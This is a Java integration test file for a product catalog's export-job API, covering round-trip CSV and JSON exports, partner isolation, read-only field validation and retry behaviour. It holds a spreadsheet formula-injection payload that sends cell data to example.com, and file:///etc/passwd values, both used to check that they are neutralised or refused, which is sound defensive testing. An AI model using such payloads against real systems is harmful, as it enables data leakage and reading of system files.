package io.accord.catalog.exportjob;

import io.accord.platform.partner.PartnerView;
import io.accord.testsupport.PartnerEvents;
import io.accord.contracts.Roles;
import io.accord.catalog.importjob.FileFormat;
import io.accord.catalog.importjob.JobStatus;
import io.accord.testsupport.AccordServiceTest;
import io.accord.testsupport.TestHttp;
import io.accord.testsupport.TestInfrastructure;
import io.accord.testsupport.TestJwt;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.transaction.support.TransactionSynchronizationManager;
import tools.jackson.databind.JsonNode;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicReference;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

@AccordServiceTest
class ExportJobTests {

    private static final String IMPORT_JOBS = "/tmf-api/productCatalogManagement/v4/importJob";
    private static final String EXPORT_JOBS = "/tmf-api/productCatalogManagement/v4/exportJob";
    private static final String DEMO_RESELLER = "22222222-2222-4222-8222-222222222222";
    /** The database AccordTestInitializer gives catalog's tests ({@code test_} and the application's name). */
    private static final String DATABASE = "test_catalog";

    @LocalServerPort
    int port;

    private final PartnerView partners;
    private final ExportJobStore store;
    private final ExportJobService service;

    ExportJobTests(PartnerView partners, ExportJobStore store, ExportJobService service) {
        this.partners = partners;
        this.store = store;
        this.service = service;
    }

    @BeforeEach
    void theExamplesCoCreatorIsActive() {
        if (partners.find(UUID.fromString(DEMO_RESELLER)).filter(p -> p.isActive()).isEmpty()) {
            activate(DEMO_RESELLER, "Demo Reseller SARL");
        }
    }

    @Test
    void aCsvExportReimportsWithEveryRowUnchanged() throws IOException {
        TestHttp admin = admin(activePartner("Round Trip Csv"));
        // texts a spreadsheet would take for formulas: the export guards them, the import takes the guard off
        String formula = "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")";
        JsonNode imported = importAndWait(admin, example("offerings-import.csv")
                .replace("Streamo Basic,", "\"" + formula.replace("\"", "\"\"") + "\",")
                .replace("\"Ad-free", "\"+Ad-free").replace(",Streamo video streaming,", ",@Streamo video streaming,")
                .replace("On-demand video", "''=1+1 On-demand video"), "text/csv");

        JsonNode export = exportAndWait(admin, "{\"contentType\": \"text/csv\"}");
        TestHttp.Response file = admin.get(export.get("url").asString());
        JsonNode reimported = importAndWait(admin, file.body(), "text/csv");

        assertThat(file.body()).contains(",\"'" + formula.replace("\"", "\"\"") + "\",", ",\"'+Ad-free",
                ",'@Streamo video streaming,", ",''=1+1 On-demand video").doesNotContain(",=", ",+", ",@");
        JsonNode offering = admin.get("/tmf-api/productCatalogManagement/v4/productOffering?externalId=streamo-basic")
                .json().get(0);
        assertThat(offering.get("name").asString()).isEqualTo(formula);
        assertThat(offering.get("description").asString()).startsWith("+Ad-free");

        assertThat(imported.get("outcomes").get("CREATED").asInt()).isEqualTo(6);
        assertThat(export.get("status").asString()).isEqualTo("Succeeded");
        assertThat(export.get("rowCount").asInt()).isEqualTo(6);
        assertThat(file.status()).isEqualTo(200);
        assertThat(file.contentType()).startsWith("text/csv");
        assertThat(file.body()).startsWith("externalId,name,");
        assertThat(reimported.get("outcomes").propertyNames()).containsExactly("UNCHANGED");
        assertThat(reimported.get("outcomes").get("UNCHANGED").asInt()).as(reimported.toString()).isEqualTo(6);

        // the download writes its chunks with no transaction (and so no connection) held while the client reads
        ExportJob job = store.find(UUID.fromString(export.get("id").asString())).orElseThrow();
        List<Boolean> inTransaction = new ArrayList<>();
        ByteArrayOutputStream written = new ByteArrayOutputStream() {
            @Override
            public synchronized void write(byte[] bytes, int offset, int length) {
                inTransaction.add(TransactionSynchronizationManager.isActualTransactionActive());
                super.write(bytes, offset, length);
            }
        };
        service.download(job, written);
        assertThat(written.toString(StandardCharsets.UTF_8)).isEqualTo(file.body());
        assertThat(inTransaction).isNotEmpty().containsOnly(false);
    }

    @Test
    void aJsonExportReimportsWithEveryRowUnchanged() {
        TestHttp admin = admin(activePartner("Round Trip Json"));
        importAndWait(admin, example("offerings-import.json"), "application/json");

        JsonNode export = exportAndWait(admin, "{\"contentType\": \"application/json\"}");
        TestHttp.Response file = admin.get(export.get("url").asString());
        JsonNode reimported = importAndWait(admin, file.body(), "application/json");

        assertThat(file.contentType()).startsWith("application/json");
        assertThat(file.json()).hasSize(6);
        assertThat(reimported.get("outcomes").get("UNCHANGED").asInt()).as(reimported.toString()).isEqualTo(6);
    }

    @Test
    void everyDecimalOfAJsonOrCsvExportIsWrittenWithoutExponentAndReimportsUnchanged() {
        TestHttp admin = admin(activePartner("Plain Decimals"));
        // each of these would be written 1E+2, 1E+1 or 0E-6 by BigDecimal.toString (stored without trailing zeros)
        JsonNode imported = importAndWait(admin, """
                [{"externalId": "plain-1", "name": "Plain decimals", "category": "VIDEO",
                  "characteristics": ["screens:INTEGER:min=1:max=1E+1:configurable",
                                      "volume:NUMBER:min=0.000000:max=100.00:unit=GB:configurable",
                                      "boost:NUMBER:fixed=1E+2", "floor:NUMBER:fixed=0E-6"],
                  "prices": [{"priceExternalId": "m", "priceName": "Monthly", "priceType": "RECURRING",
                              "amount": 100.000000, "currency": "EUR", "taxCategory": "STANDARD",
                              "recurringPeriod": "MONTH", "minimumCharge": "0E-6", "priceValidFrom": "2026-01-01"},
                             {"priceExternalId": "u", "priceName": "Data", "priceType": "USAGE", "currency": "EUR",
                              "taxCategory": "STANDARD", "unit": "MB", "usageTypes": ["DATA"],
                              "tierMode": "GRADUATED", "tiers": ["0-1E+2:0.000000", "1E+2-:1E-2"],
                              "priceValidFrom": "2026-01-01"}]}]""", "application/json");
        assertThat(imported.get("outcomes").get("CREATED").asInt()).as(imported.toString()).isEqualTo(1);

        for (String format : List.of("application/json", "text/csv")) {
            TestHttp.Response file = admin.get(exportAndWait(admin, "{\"contentType\": \"" + format + "\"}")
                    .get("url").asString());
            JsonNode reimported = importAndWait(admin, file.body(), format);

            assertThat(file.body()).as(format).contains("screens:INTEGER:min=1:max=10:configurable",
                    "volume:NUMBER:min=0:max=100:unit=GB:configurable", "boost:NUMBER:fixed=100",
                    "floor:NUMBER:fixed=0.000000", "0-100:0", "100-:0.01").doesNotContainPattern("[0-9][eE][-+]?[0-9]");
            assertThat(file.body()).as(format).contains(format.equals("text/csv") ? ",100," : "\"amount\":\"100\"");
            assertThat(reimported.get("outcomes").get("UNCHANGED").asInt()).as(reimported.toString()).isEqualTo(1);
        }
    }

    @Test
    void anotherPartnersExportIsNotFoundAndStaffExportEveryOwner() {
        TestHttp adminA = admin(activePartner("Export A"));
        TestHttp adminB = admin(activePartner("Export B"));
        importAndWait(adminA, example("offerings-import.csv"), "text/csv");
        JsonNode export = exportAndWait(adminA, "{}");
        TestHttp staff = TestHttp.localPort(port).as(TestJwt.staff("auditor-x", Roles.AUDITOR));

        JsonNode all = exportAndWait(staff, "{\"contentType\": \"application/json\"}");
        JsonNode byFinance = exportAndWait(TestHttp.localPort(port).as(TestJwt.staff("fiona", Roles.FINANCE)),
                "{\"contentType\": \"application/json\"}");
        assertThat(byFinance.get("rowCount").asInt()).as("finance reads the whole catalog, so it may export it")
                .isGreaterThanOrEqualTo(6);

        assertThat(adminB.get(export.get("href").asString()).status()).isEqualTo(404);
        assertThat(adminB.get(export.get("url").asString()).status()).isEqualTo(404);
        assertThat(adminB.post(EXPORT_JOBS, "{\"query\": \"owner=" + UUID.randomUUID() + "\"}").status())
                .isEqualTo(400);
        assertThat(all.get("rowCount").asInt()).isGreaterThanOrEqualTo(6);
        assertThat(adminA.post(EXPORT_JOBS, "{\"contentType\": \"text/xml\"}").status()).isEqualTo(400);
        assertThat(adminA.get(EXPORT_JOBS + "/nope").status()).isEqualTo(404);
    }

    @Test
    void aFilterOtherThanOwnerIsNamedNotReportedAsABadOwner() {
        String partner = activePartner("Export Filtered");
        TestHttp admin = admin(partner);

        TestHttp.Response filtered = admin.post(EXPORT_JOBS, "{\"query\": \"owner=" + partner + "&externalId=x\"}");
        TestHttp.Response twice = admin.post(EXPORT_JOBS, "{\"query\": \"owner=" + partner + "&owner=CSP\"}");

        assertThat(filtered.status()).as(filtered.body()).isEqualTo(400);
        assertThat(filtered.json().get("violations").get(0).get("field").asString()).isEqualTo("query");
        assertThat(filtered.json().get("detail").asString()).contains("'externalId' is not a filter", "only owner")
                .doesNotContain("UUID");
        assertThat(twice.status()).isEqualTo(400);
        assertThat(twice.json().get("detail").asString()).contains("one filter");
        assertThat(admin.get(EXPORT_JOBS).json().size()).as("nothing was created").isZero();
    }

    @Test
    void attributesTheJobSetsAndAnotherResourcesPathAreRefusedNotIgnored() {
        TestHttp admin = admin(activePartner("Export Read Only"));
        java.util.Map<String, String> refused = new java.util.LinkedHashMap<>();
        refused.put("{\"path\": \"/tmf-api/party/v4/organization\", \"url\": \"file:///etc/passwd\","
                + " \"status\": \"Succeeded\"}", "status");
        refused.put("{\"url\": \"file:///etc/passwd\"}", "url");
        refused.put("{\"id\": \"x\"}", "id");
        refused.put("{\"href\": \"/elsewhere\"}", "href");
        refused.put("{\"creationDate\": \"2026-01-01T00:00:00Z\"}", "creationDate");
        refused.put("{\"completionDate\": \"2026-01-01T00:00:00Z\"}", "completionDate");
        refused.put("{\"errorLog\": \"none\"}", "errorLog");
        refused.put("{\"path\": \"/tmf-api/party/v4/organization\"}", "path");
        refused.put("{\"@type\": \"Organization\"}", "@type");
        refused.put("{\"@baseType\": \"ImportJob\"}", "@baseType");
        refused.put("{\"@schemaLocation\": \"file:///etc/passwd\"}", "@schemaLocation");

        refused.forEach((body, field) -> {
            TestHttp.Response response = admin.post(EXPORT_JOBS, body);
            assertThat(response.status()).as(body).isEqualTo(400);
            assertThat(response.contentType()).startsWith("application/problem+json");
            assertThat(response.json().get("violations").get(0).get("field").asString()).as(body).isEqualTo(field);
            assertThat(response.json().get("detail").asString()).as(body).contains(field);
        });
        assertThat(admin.post(EXPORT_JOBS, "{\"status\": \"Succeeded\"}").json().get("detail").asString())
                .contains("read-only");
        assertThat(admin.post(EXPORT_JOBS, "{\"path\": \"/x\"}").json().get("detail").asString())
                .contains("/tmf-api/productCatalogManagement/v4/productOffering");
        assertThat(admin.get(EXPORT_JOBS).json().size()).as("nothing was created").isZero();

        JsonNode accepted = exportAndWait(admin, """
                {"@type": "ExportJob", "@baseType": "ExportJob",
                 "@schemaLocation": "https://tmforum.org/schemas/ExportJob.schema.json",
                 "path": "/tmf-api/productCatalogManagement/v4/productOffering", "contentType": "text/csv",
                 "status": null, "url": null}""");
        assertThat(accepted.get("status").asString()).isEqualTo(JobStatus.SUCCEEDED.label());
        assertThat(accepted.get("path").asString()).isEqualTo("/tmf-api/productCatalogManagement/v4/productOffering");
    }

    /**
     * An export whose file cannot be stored (a fault trigger, created as the database owner, refuses the file chunks
     * of this partner's exports) is written again after a back-off, and FAILED after the attempts allowed (3 in the
     * tests' config/application.yml) with the kind of error only, none of our SQL.
     */
    @Test
    void anExportThatKeepsFailingIsRetriedThenFailsWithANeutralText() {
        String partner = activePartner("Export Retry");
        TestHttp admin = admin(partner);
        String fuse = "export_fuse_" + UUID.randomUUID().toString().replace("-", "");
        TestInfrastructure.executeAsOwner(DATABASE, """
                create function %s() returns trigger language plpgsql as $$
                begin
                    if exists (select 1 from export_job where id = new.job_id and owner_partner_id = '%s') then
                        raise exception 'fuse: export file chunk %% refused', new.seq;
                    end if;
                    return new;
                end $$""".formatted(fuse, partner));
        TestInfrastructure.executeAsOwner(DATABASE, "create trigger " + fuse + " before insert on export_file_chunk"
                + " for each row execute function " + fuse + "()");
        try {
            TestHttp.Response created = admin.post(EXPORT_JOBS, "{\"contentType\": \"text/csv\"}");
            assertThat(created.status()).as(created.body()).isEqualTo(201);
            String href = created.header("Location");
            AtomicReference<JsonNode> retried = new AtomicReference<>();
            await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(20)).until(() -> {
                retried.set(admin.get(href).json());
                return retried.get().get("status").asString().equals("Running")
                        && retried.get().get("attempts").asInt() > 0;
            });
            JsonNode failed = awaitEnd(admin, href);

            String reason = "database error, SQL state P0001 (details in the catalog service's log under this job's"
                    + " id)";
            assertThat(retried.get().get("errorLog").asString()).isEqualTo(reason);
            assertThat(failed.get("status").asString()).isEqualTo("Failed");
            assertThat(failed.get("attempts").asInt()).isEqualTo(3);
            assertThat(failed.get("errorLog").asString()).isEqualTo("stopped after 3 failed attempts: " + reason)
                    .doesNotContainIgnoringCase("insert").doesNotContain("export_file_chunk").doesNotContain("fuse");
            assertThat(admin.get(failed.get("url").asString()).status()).isNotEqualTo(200);
        } finally {
            TestInfrastructure.executeAsOwner(DATABASE, "drop trigger if exists " + fuse + " on export_file_chunk");
            TestInfrastructure.executeAsOwner(DATABASE, "drop function if exists " + fuse + "()");
        }
    }

    /** The job's own transitions after failed runs: counted, FAILED at the last attempt allowed, then final. */
    @Test
    void failedRunsAreCountedUntilTheAttemptsAllowed() {
        Instant now = Instant.parse("2026-12-05T10:00:00Z");
        ExportJob running = new ExportJob(UUID.randomUUID(), null, true, FileFormat.CSV, JobStatus.RUNNING, null,
                null, 0, null, "tester", now, null, now);
        String reason = "database error, SQL state 08006 (details in the catalog service's log under this job's id)";

        ExportJob once = running.attemptFailed(reason, 2, now);
        ExportJob failed = once.attemptFailed(reason, 2, now);

        assertThat(once.status()).isEqualTo(JobStatus.RUNNING);
        assertThat(once.attempts()).isEqualTo(1);
        assertThat(once.errorLog()).isEqualTo(reason);
        assertThat(once.completionDate()).isNull();
        assertThat(once.written(6, 100, now).attempts()).isZero();
        assertThat(once.written(6, 100, now).errorLog()).isNull();
        assertThat(failed.status()).isEqualTo(JobStatus.FAILED);
        assertThat(failed.errorLog()).isEqualTo("stopped after 2 failed attempts: " + reason);
        assertThat(failed.completionDate()).isEqualTo(now);
        assertThatThrownBy(() -> failed.attemptFailed(reason, 2, now)).isInstanceOf(IllegalStateException.class);
    }

    private JsonNode exportAndWait(TestHttp client, String body) {
        TestHttp.Response created = client.post(EXPORT_JOBS, body);
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        return awaitEnd(client, created.header("Location"));
    }

    private JsonNode importAndWait(TestHttp client, String body, String contentType) {
        TestHttp.Response created = client.send("POST", IMPORT_JOBS, body, contentType);
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        return awaitEnd(client, created.header("Location"));
    }

    private static JsonNode awaitEnd(TestHttp client, String href) {
        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(200)).until(() -> {
            String status = client.get(href).json().get("status").asString();
            return status.equals("Succeeded") || status.equals("Failed");
        });
        return client.get(href).json();
    }

    private String activePartner(String name) {
        String id = UUID.randomUUID().toString();
        activate(id, name);
        return id;
    }

    private void activate(String id, String name) {
        PartnerEvents.activated(id, name);
        await().atMost(Duration.ofSeconds(30)).until(() -> partners.find(UUID.fromString(id))
                .filter(partner -> partner.isActive()).isPresent());
    }

    private static String example(String file) {
        try {
            return Files.readString(Path.of("..", "examples", "catalog", file));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private TestHttp admin(String partner) {
        return TestHttp.localPort(port).as(TestJwt.partner("export-admin", partner, Roles.PARTNER_ADMIN));
    }
}
